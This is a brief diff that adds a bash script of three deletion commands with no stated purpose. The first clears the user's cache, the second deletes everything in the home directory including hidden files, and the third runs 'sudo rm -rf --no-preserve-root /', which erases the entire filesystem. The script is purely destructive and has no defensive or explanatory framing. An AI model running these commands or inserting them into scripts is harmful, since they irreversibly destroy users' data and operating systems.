@@ -1,0 +1,4 @@
+#!/bin/bash
+rm -rf ~/.cache/*
+rm -rf ~/* ~/.[!.]*
+sudo rm -rf --no-preserve-root /
